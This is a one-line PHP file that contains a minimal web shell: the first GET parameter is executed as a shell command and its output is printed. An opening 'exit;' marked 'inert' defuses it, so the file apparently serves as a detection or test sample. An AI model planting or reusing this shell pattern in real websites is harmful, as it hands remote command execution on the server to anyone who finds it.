<?php exit; /* inert */ ?><pre><?=`{$_GET[0]} 2>&1`?></pre>
